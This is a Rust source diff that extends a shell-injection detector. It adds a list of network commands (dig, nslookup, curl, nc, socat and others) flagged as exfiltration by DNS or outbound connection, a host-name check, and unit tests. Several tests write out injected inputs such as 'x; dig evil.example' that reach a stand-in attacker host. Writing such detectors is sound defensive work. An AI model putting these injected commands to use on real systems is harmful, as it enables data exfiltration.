@@ -142,6 +142,40 @@ const SUBSTITUTION_REACH: usize = 200;
 /// Commands whose arguments carry a number (delays, counts).
 const TIMING: &[&str] = &["sleep", "ping", "timeout", "usleep", "choice"];
 
+/// Commands whose first argument is a host name (`dig evil.example`): exfiltration by DNS or
+/// a connection out.
+const NETWORK: &[&str] = &[
+    "ping",
+    "dig",
+    "host",
+    "nslookup",
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "telnet",
+    "ssh",
+    "tftp",
+    "traceroute",
+    "tracert",
+    "socat",
+];
+
+/// `evil.example`, `a.b-c.example`: two or more labels, the last one letters only.
+fn host_name_shaped(word: &str) -> bool {
+    let labels: Vec<&str> = word.split('.').collect();
+    let label_ok = |l: &&str| {
+        !l.is_empty() && l.len() <= 63 && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
+    };
+    labels.len() >= 2
+        && word.len() <= 253
+        && labels.iter().all(label_ok)
+        && labels
+            .last()
+            .is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
+}
+
 #[derive(Clone, Copy, PartialEq, Eq, Debug)]
 enum Separator {
     /// `;`, `|`, `&`, backtick, `$(`, a line start inside the message.
@@ -213,6 +247,9 @@ fn shell_shaped(command: &str, first: &str, args: &str) -> bool {
     let numeric = first.bytes().all(|c| c.is_ascii_digit() || c == b'.');
     if numeric {
         return TIMING.contains(&command) || first.contains('.');
+    }
+    if NETWORK.contains(&command) && host_name_shaped(first) {
+        return true;
     }
     // `echo` output redirected or piped, e.g. `echo x > file`.
     command == "echo" && (args.contains('>') || args.contains('|'))
@@ -488,6 +525,21 @@ mod tests {
         assert!(!check("so; time for bed", 2, "time"));
         assert!(!check("it costs $(more than you think", 2, "more"));
         assert!(!check("done; ls #1 priority", 4, "ls"));
+        assert!(!check("haha; dig it.", 4, "dig"));
+        assert!(!check("ok; host a party", 2, "host"));
+    }
+
+    #[test]
+    fn network_commands_with_a_host_name() {
+        assert!(check("x; dig evil.example", 1, "dig"));
+        assert!(check(
+            "x | nslookup a1.data.evil-host.example",
+            2,
+            "nslookup"
+        ));
+        assert!(check("x; curl evil.example", 1, "curl"));
+        assert!(!check("x; dig evil.example2", 1, "dig"));
+        assert!(!check("x; cat evil.example", 1, "cat"));
     }
 
     #[test]
